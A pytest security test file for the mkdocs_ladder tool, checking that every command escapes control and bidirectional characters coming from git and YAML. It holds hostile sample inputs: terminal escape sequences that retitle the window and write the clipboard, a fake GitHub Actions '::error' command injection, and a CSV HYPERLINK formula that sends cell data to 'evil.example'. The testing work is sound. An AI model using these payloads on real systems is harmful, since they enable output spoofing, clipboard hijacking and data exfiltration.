"""Text from git and from YAML is inert in every text output: the terminal, the CI log, CSV.

One function, :func:`~mkdocs_ladder.terminal.printable`, shows every control and bidirectional
character as an escape; every printer uses it. A property test proves it for any text, in every
format of ``ladder check``; a hostile repository, whose commits and YAML carry the hostile set,
proves that no command's output lets one through.
"""

from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from mkdocs_ladder.authoring.export import FORMULA_STARTS, cell
from mkdocs_ladder.errors import FORMAT_RULES, Problem, Severity, report
from mkdocs_ladder.terminal import CONTROLS, printable

from .sites import GitRepo, cli

#: What no output may hold raw: C0 (CR and ESC among them), DEL, C1, the line and paragraph
#: separators, and the bidirectional controls. A report's lines are ended by "\n" alone.
RAW = re.compile("[" + re.escape("".join(ch for ch in CONTROLS if ch != "\n")) + "]")
HOSTILE = "x\r::error title=X::y\x1b]0;pwned\x07\x1b]52;c;cHduZWQ=\x07\x1b[31m\u202eevil\u2066\x9b\x7f\x00\u2028"


def test_the_controls_are_every_one_the_issue_names():
    assert {chr(c) for c in range(0x20)} | {"\x7f"} | {chr(c) for c in range(0x80, 0xA0)} <= set(CONTROLS)
    assert {chr(c) for c in [*range(0x202A, 0x202F), *range(0x2066, 0x206A)]} <= set(CONTROLS)
    assert printable("a\rb\x1b\u202e\x85") == "a\\rb\\x1b\\u202e\\x85"


def decoded(text: str) -> str:
    return re.sub(r"\\(x[0-9a-f]{2}|u[0-9a-f]{4}|[nrt])", lambda m: json.loads(f'"\\{m.group(1).replace("x", "u00")}"'), text)


@settings(max_examples=300, deadline=None)
@given(st.text(), st.booleans())
@example(HOSTILE, False)
def test_printable_leaves_no_control_and_loses_nothing(text, lines):
    out = printable(text, lines=lines)
    assert not RAW.search(out)
    assert out.count("\n") == (text.count("\n") if lines else 0)
    if "\\" not in text:  # without a backslash of its own, the escapes read back as the text
        assert decoded(out) == text


@settings(max_examples=300, deadline=None)
@given(message=st.text(), name=st.text(min_size=1, max_size=20), rule=st.sampled_from(["format", "no-steps"]))
@example(message=HOSTILE, name="::error::x", rule="format")
def test_no_format_of_check_prints_a_control_character_or_a_command_of_its_own(message, name, rule):
    problems = [Problem(Path.cwd() / name.replace("/", "_"), 3, 1, severity, message, rule, "n") for severity in Severity]
    for fmt in ("text", "json", "sarif"):
        assert not RAW.search(report(problems, fmt, dict(FORMAT_RULES), "0")), fmt
    out = report(problems, "github", dict(FORMAT_RULES), "0", title=message)
    assert not RAW.search(out)
    lines = out.splitlines()
    token = lines[1].removeprefix("::stop-commands::")
    resume = lines.index(f"::{token}::")
    assert [line.split(" ", 1)[0] for line in lines[:2] + lines[resume:]] == [
        "::group::" + printable(message).split(" ", 1)[0],
        f"::stop-commands::{token}",
        f"::{token}::",
        "::endgroup::",
        "::error",
        "::warning",
        "::notice",
    ]
    assert resume == 2 + len(problems)  # the plain lines hold no resume of their own


@settings(max_examples=300, deadline=None)
@given(st.text())
@example('=HYPERLINK("http://evil.example/?x="&A1,"click")')
@example("@everyone")
@example("\uff1dSUM(A1)")
def test_no_csv_cell_can_start_a_formula(text):
    out = io.StringIO()
    csv.writer(out).writerow([cell(text)])
    (read,) = csv.reader(io.StringIO(out.getvalue()))
    assert not read[0].startswith(FORMULA_STARTS)
    assert read[0] in (text, f"'{text}")


# --- every command, over a hostile repository ------------------------------------------------------

#: YAML double-quoted escapes: each value carries the hostile set that a one-line value can hold
#: (a CR is refused as a second line: the uncommitted file's status carries one).
Y = "\\e]0;pwned\\a \\e]52;c;cHduZWQ=\\a \\e[31m \\u202eevil\\u2066 \\x9b \\x7f"


@pytest.fixture(scope="module")
def hostile_repo(tmp_path_factory: pytest.TempPathFactory) -> Path:
    repo = GitRepo(tmp_path_factory.mktemp("hostile-git") / "repo")
    tree = {
        "strategy/mission.yaml": f'title: "Mission {Y}"\nowner: "core{Y}"\n',
        "strategy/strategies/growth.yaml": f'title: "Growth {Y}"\nparent: mission\nowner: core\n',
        "strategy/initiatives/a.yaml": (
            f'title: "A {Y}"\nparent: growth\nowner: core\nwhy: "why {Y}"\nsteps: ["one {Y}", {{title: "two {Y}", done: true}}]\nmetrics: [{{name: "m {Y}"}}]\n'
        ),
    }
    repo.commit("2026-05-01", tree, "Add the tree")
    hostile = HOSTILE.replace("\x00", "")  # git refuses a NUL in a message
    repo.commit("2026-05-04", {"work/1.txt": "1"}, f"Subject {hostile}\n\nLadder: a")
    repo.commit("2026-05-05", {"work/2.txt": "2"}, f"Fix\n\nLadder: nope{hostile}")
    repo.commit("2026-05-06", {"work/3.txt": "3"}, "Other\n\nLadder: a\x1b]0;t\x07")
    repo.commit(
        "2026-05-07", {"strategy/initiatives/a.yaml": tree["strategy/initiatives/a.yaml"].replace('"one ', '"uno ')}, "Retitle a step"
    )
    repo.write(
        {"strategy/initiatives/b.yaml": f'title: "B {Y}"\nparent: growth\nowner: "core{Y}"\nstatus: "done\\r::error title=X::y{Y}"\n'}
    )
    repo.write({name.replace("strategy/", "committed/", 1): text for name, text in tree.items()})  # a valid tree, for export and render
    (repo.root / "msg.txt").write_text(f"Subject\n\nLadder: nope{hostile}\n", encoding="utf-8")
    return repo.root


#: Each command, and the escape its output must show (the hostile text reached it, escaped):
#: text shows ``\x1b``, JSON ``\u001b``; None where a command prints no author text.
COMMANDS = [
    (("check",), "\\x1b"),
    (("check", "--format", "github"), "\\x1b"),
    (("check", "--format", "json"), "\\x1b"),  # a message quotes the value as check shows it
    (("check", "--format", "sarif"), "\\x1b"),
    (("check", "--no-history"), "\\x1b"),
    (("work",), "\\x1b"),
    (("work", "a"), "\\x1b"),
    (("history",), None),
    (("history", "a"), "\\x1b"),
    (("diff", "HEAD~3"), "\\u202e"),  # its Markdown shows the other controls as spaces
    (("diff", "HEAD~3", "--format", "json"), "\\u202e"),
    (("trailer", "msg.txt"), None),  # the trailer's id ends at the CR
    (("export", "--dir", "committed"), "\\u001b"),
    (("export", "--dir", "committed", "--format", "csv"), "\\x1b"),
    (("export", "--dir", "committed", "--format", "dot"), "\\x1b"),
    (("render", "out", "--dir", "committed"), None),
    (("new", "initiative", "c", "--parent", "growth", "--title", f"C {HOSTILE}"), None),  # refused: a title is one line
    (("new", "initiative", "d", "--dir", "committed", "--parent", "growth", "--title", "D \x1b]0;t\x07\u202e"), None),
]


@pytest.mark.parametrize(("args", "shown"), COMMANDS, ids=[" ".join(args) for args, _ in COMMANDS])
def test_no_command_prints_a_control_character_from_git_or_yaml(hostile_repo, args, shown):
    code, out = cli(*args, cwd=hostile_repo)
    assert not RAW.search(out), (code, out)
    assert shown is None or shown in out, out
